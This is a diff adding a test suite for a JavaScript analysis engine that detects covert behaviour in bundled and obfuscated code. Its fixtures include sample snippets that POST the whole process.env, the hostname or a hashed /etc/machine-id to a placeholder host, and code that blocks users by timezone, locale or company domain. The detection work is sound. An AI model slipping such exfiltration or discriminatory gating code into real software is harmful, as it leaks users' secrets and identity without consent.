@@ -1,0 +1,181 @@
+import * as assert from 'assert';
+import { analyzeSource } from '../../../src/core/analyze';
+import { severityRank, type Finding } from '../../../src/core/model';
+import { parseAndCollect } from '../../../src/core/engine/collect';
+import { Resolver } from '../../../src/core/engine/resolve';
+import { hostOf } from '../../../src/core/rules/data/keywords';
+import { listItems } from '../../../src/core/rules/obfuscation';
+import type { Node } from '../../../src/core/engine/ast';
+
+/*
+ * The engine on the shapes bundlers and obfuscators produce: each case is a small program whose
+ * behaviour a reader can check by eye, written as a tool would ship it, and the assertion is
+ * what a user relies on (the alert, its values, what it says changes).
+ */
+
+const loud = (fs: Finding[]) => fs.filter((f) => severityRank(f.severity) >= severityRank('high'));
+
+function scan(code: string): Finding[] {
+  const r = analyzeSource('x.js', code, { firstPartyHosts: ['api.anthropic.com'] });
+  assert.strictEqual(r.error, undefined, r.error?.reason);
+  return r.findings;
+}
+
+function gating(code: string): Finding {
+  const f = scan(code).find((x) => x.ruleId === 'env-gated-behavior');
+  assert.ok(f, 'a gating alert');
+  return f;
+}
+
+/** The constant the last expression statement evaluates to. */
+function constantOf(code: string): unknown {
+  const parsed = parseAndCollect(code, {});
+  assert.ok(parsed.ok);
+  const r = new Resolver(parsed.facts, { text: code, root: parsed.ast });
+  const body = parsed.ast.body as Node[];
+  const last = body[body.length - 1];
+  return r.constant(last.expression, parsed.facts.programScope)?.v;
+}
+
+describe('engine: the interpreter and program state', () => {
+  it('decodes javascript-obfuscator string tables (rotated at start-up, base64 and rc4)', () => {
+    // eslint-disable-next-line @typescript-eslint/no-require-imports
+    const JavaScriptObfuscator = require('javascript-obfuscator');
+    for (const encoding of ['base64', 'rc4']) {
+      const src = 'globalThis.zones = ["Asia/Shanghai", "Asia/Urumqi", "Europe/Moscow"]; console.log("a", "b", "c", "d", "e");';
+      const code = JavaScriptObfuscator.obfuscate(src, { seed: 3, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: [encoding] }).getObfuscatedCode();
+      const parsed = parseAndCollect(code, {});
+      assert.ok(parsed.ok);
+      const r = new Resolver(parsed.facts, { text: code, root: parsed.ast });
+      // The array literal assigned to globalThis.zones, made of string-table calls.
+      let arr: Node | undefined;
+      const stack: Node[] = [parsed.ast as Node];
+      while (stack.length && !arr) {
+        const n = stack.pop()!;
+        if (n.type === 'AssignmentExpression' && n.right.type === 'ArrayExpression') arr = n.right;
+        for (const v of Object.values(n)) {
+          if (Array.isArray(v)) stack.push(...v.filter((x) => x && typeof x.type === 'string'));
+          else if (v && typeof v === 'object' && typeof (v as Node).type === 'string') stack.push(v as Node);
+        }
+      }
+      assert.ok(arr, encoding);
+      assert.deepStrictEqual(r.constant(arr, parsed.facts.programScope)?.v, ['Asia/Shanghai', 'Asia/Urumqi', 'Europe/Moscow'], encoding);
+    }
+  });
+
+  it('gives a lazy initialiser its value, and a self-redefining memo its result', () => {
+    assert.deepStrictEqual(constantOf('var L; var init = () => { L = atob("YSxi").split(","); }; L'), ['a', 'b']);
+    assert.strictEqual(constantOf('function t() { const a = ["x", "y"]; t = function () { return a; }; return t(); } t()[1]'), 'y');
+    assert.strictEqual(constantOf('function d(s) { if (d.c === undefined) d.c = {}; return d.c[s] ??= s.split("").reverse().join(""); } d("cba")'), 'abc');
+  });
+
+  it('catches what interpreted code throws, and stops a function that runs away', () => {
+    assert.strictEqual(constantOf('function f(s) { try { return decodeURIComponent(s); } catch (e) { return "bad"; } } f("%E0%A4%A")'), 'bad');
+    assert.strictEqual(constantOf('function loop() { for (;;) {} } loop()'), undefined);
+  });
+});
+
+describe('engine: value flow through carriers and module systems', () => {
+  it('follows a record field, a getter and a memo to the comparison and on to its effect', () => {
+    const f = gating(`
+      const ZONES = ["Asia/Shanghai", "Asia/Urumqi"];
+      function probe() { const tz = Intl.DateTimeFormat().resolvedOptions().timeZone; return { tz, hit: ZONES.includes(tz) }; }
+      class Session { get limited() { return probe().hit; } }
+      const once = (f) => { let v; return () => (v ??= f()); };
+      const isLimited = once(() => new Session().limited);
+      if (isLimited()) throw new Error("Not available");`);
+    assert.deepStrictEqual(f.values, ['Asia/Shanghai', 'Asia/Urumqi']);
+    assert.ok(f.trace.some((s) => s.role === 'effect' && /throws "Not available"/.test(s.note)), f.trace.map((s) => s.note).join(' | '));
+  });
+
+  it('follows a flag set in a loop and a value returned by an early return', () => {
+    const f = gating(`
+      const HOSTS = ["api.deepseek.com", "api.moonshot.cn"];
+      function known(h) { let hit = false; for (const d of HOSTS) { if (h.endsWith(d)) { hit = true; break; } } return hit; }
+      function index(h) { for (let i = 0; i < HOSTS.length; i++) if (h === HOSTS[i]) return i; return -1; }
+      const host = new URL(process.env.OPENAI_BASE_URL).hostname;
+      const body = { temperature: known(host) ? 1.5 : 0.2 };
+      fetch("https://example.dev/v1", { method: "POST", body: JSON.stringify(body) });
+      if (index(host) >= 0) process.exit(1);`);
+    assert.ok(f.values.includes('api.deepseek.com'));
+    assert.ok(f.trace.some((s) => s.role === 'effect'), 'what it changes');
+  });
+
+  it("resolves webpack's numeric module table and esbuild's export getters", () => {
+    const webpack = gating(`
+      var __webpack_modules__ = {
+        857: (module) => { module.exports = require("os"); },
+        4120: (m, exports, req) => { req.d(exports, { ORGS: () => ORGS }); const ORGS = ["bytedance.com", "tencent.com"]; },
+      };
+      function __webpack_require__(id) { var module = { exports: {} }; __webpack_modules__[id](module, module.exports, __webpack_require__); return module.exports; }
+      const os = __webpack_require__(857), list = __webpack_require__(4120);
+      if (list.ORGS.some((d) => os.hostname().endsWith(d))) process.exit(2);`);
+    assert.deepStrictEqual(webpack.values, ['bytedance.com', 'tencent.com']);
+    const esbuild = gating(`
+      var __defProp = Object.defineProperty;
+      var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }); };
+      var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
+      var probe_exports = {};
+      __export(probe_exports, { flag: () => flag });
+      var flag = ["zh-CN", "zh-TW"].includes(Intl.DateTimeFormat().resolvedOptions().locale);
+      var probe = __toCommonJS(probe_exports);
+      if (probe.flag) throw new Error("This feature is not available in your region.");`);
+    assert.ok(esbuild.trace.some((s) => s.role === 'effect' && /throws/.test(s.note)), esbuild.trace.map((s) => s.note).join(' | '));
+  });
+
+  it("takes `require` in Bun's CommonJS wrapper for the runtime's", () => {
+    const found = scan(`(function(exports, require, module, __filename, __dirname) {
+      const os = require("node:os");
+      fetch("https://t.example.dev/e", { method: "POST", body: JSON.stringify({ host: os.hostname() }) });
+    })`);
+    assert.ok(found.some((f) => f.ruleId === 'host-identity-sent'));
+  });
+
+  it('follows identity through hashing to the header of a request made by a bundled client class', () => {
+    const found = scan(`
+      const crypto = require("crypto"), https = require("https"), fs = require("fs");
+      class Client { post(path, data, headers) { return this.send({ path, data, headers }); } send(o) { const r = https.request("https://t.example.dev" + o.path, { headers: o.headers }); r.end(JSON.stringify(o.data)); return r; } }
+      const id = crypto.createHash("sha256").update(fs.readFileSync("/etc/machine-id", "utf8")).digest("hex");
+      new Client().post("/e", {}, { "x-device": id });`);
+    const f = found.find((x) => x.ruleId === 'host-identity-sent');
+    assert.ok(f, found.map((x) => x.message).join(' | '));
+    assert.ok(f.trace.some((s) => s.note === 'hashes it'));
+  });
+});
+
+describe('engine: what is ordinary stays quiet', () => {
+  it('does not take a network address printed for the user, or a picked space, for an alert', () => {
+    const found = scan(`
+      const os = require("os"), net = require("net");
+      for (const list of Object.values(os.networkInterfaces())) for (const a of list) if (net.isIPv4(a.address)) console.log("http://" + a.address + ":8080");
+      const nbsp = (w) => (w.length < 3 ? "\\u00a0" : " ");
+      const label = "Screenshot 10.00.00" + (process.platform === "darwin" ? "\\u202f" : " ") + "AM.png";`);
+    assert.deepStrictEqual(loud(found).map((f) => f.message), []);
+    assert.ok(!found.some((f) => f.ruleId === 'covert-marker'), found.map((f) => f.message).join(' | '));
+  });
+
+  it('reports the whole environment high only when a request carries it', () => {
+    const kept = scan('const filter = makeSecretFilter(JSON.stringify(process.env));').find((f) => f.ruleId === 'env-enumerate');
+    assert.strictEqual(kept?.severity, 'low');
+    const sent = scan('fetch("https://t.example.dev", { method: "POST", body: JSON.stringify(process.env) });').find((f) => f.ruleId === 'env-enumerate');
+    assert.strictEqual(sent?.severity, 'high');
+  });
+
+  it('says once how many strings a wholesale encoder hides, and finds no list in prose', () => {
+    const lines = Array.from({ length: 40 }, (_, i) => `console.log(d("${Buffer.from(`message number ${i} for the user`).toString('base64')}"));`);
+    const found = scan(`const d = (s) => Buffer.from(s, "base64").toString();\n${lines.join('\n')}\nconsole.log(d("${Buffer.from('protocol must be openai, or anthropic').toString('base64')}"));`);
+    const blanket = found.filter((f) => f.ruleId === 'obfuscated-string');
+    assert.strictEqual(blanket.length, 1);
+    assert.match(blanket[0].message, /Hides 41 strings/);
+    assert.ok(!found.some((f) => f.ruleId === 'obfuscated-vendor-list'));
+    assert.deepStrictEqual(listItems('api.deepseek.com,api.moonshot.cn'), ['api.deepseek.com', 'api.moonshot.cn']);
+    assert.deepStrictEqual(listItems('protocol must be openai, or anthropic'), []);
+  });
+
+  it('keeps DSN keys, IPv6 literals and template placeholders out of the hosts', () => {
+    assert.strictEqual(hostOf('https://abc123@o42.ingest.sentry.io/7'), 'o42.ingest.sentry.io');
+    assert.strictEqual(hostOf('http://[fd00::1]:8080/'), undefined);
+    assert.strictEqual(hostOf('https://{region}.api.example.com'), undefined);
+    assert.strictEqual(hostOf('https://api.example.com/v1'), 'api.example.com');
+  });
+});
